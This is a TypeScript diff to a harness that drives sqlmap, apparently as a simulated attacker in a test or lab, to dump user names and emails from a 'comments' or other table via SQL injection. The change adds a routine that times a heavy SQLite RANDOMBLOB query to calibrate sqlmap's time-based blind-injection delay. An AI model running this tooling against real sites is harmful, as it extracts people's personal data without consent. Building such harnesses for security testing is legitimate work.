@@ -2,6 +2,7 @@
 import { spawn, spawnSync } from "node:child_process"
 import { mkdir, readdir, readFile, rm } from "node:fs/promises"
 import { join } from "node:path"
+import { DatabaseSync } from "node:sqlite"
 
 /** sqlmap's letters: union, error-based, boolean, time-based, stacked. */
 export const TECHNIQUES = ["U", "E", "B", "T", "S"] as const
@@ -65,11 +66,28 @@ function argumentsOf(options: SqlmapOptions, body: string, trafficFile: string):
         "--threads",
         "10",
         "--time-sec",
-        "1",
+        String(delaySeconds()),
     ]
     const columns = options.table === "comments" ? "nickname,email" : "name,email"
     const loot = ["-T", options.table, "-C", columns, "--dump", "-t", trafficFile, "--output-dir", options.workDir]
     return ["--batch", "--disable-coloring", ...target, ...effort, ...loot, ...(options.hex ? ["--hex"] : [])]
+}
+
+/** What a delayed answer must take at least: sqlmap believes no delay below half a second. */
+const DELAY_MS = 1_000
+const LONGEST_DELAY = 9
+
+/**
+ * SQLite has no sleep: sqlmap has it make so many random bytes "a second", which a fast machine makes in a third of one.
+ * So the attacker measures the machine first, as a patient one would.
+ */
+function delaySeconds(): number {
+    const database = new DatabaseSync(":memory:")
+    const started = performance.now()
+    database.exec("SELECT LIKE('A', UPPER(HEX(RANDOMBLOB(50000000))))")
+    const tookMs = performance.now() - started
+    database.close()
+    return Math.min(LONGEST_DELAY, Math.max(1, Math.ceil(DELAY_MS / tookMs)))
 }
 
 async function runToEnd(args: readonly string[], limitSeconds: number): Promise<void> {
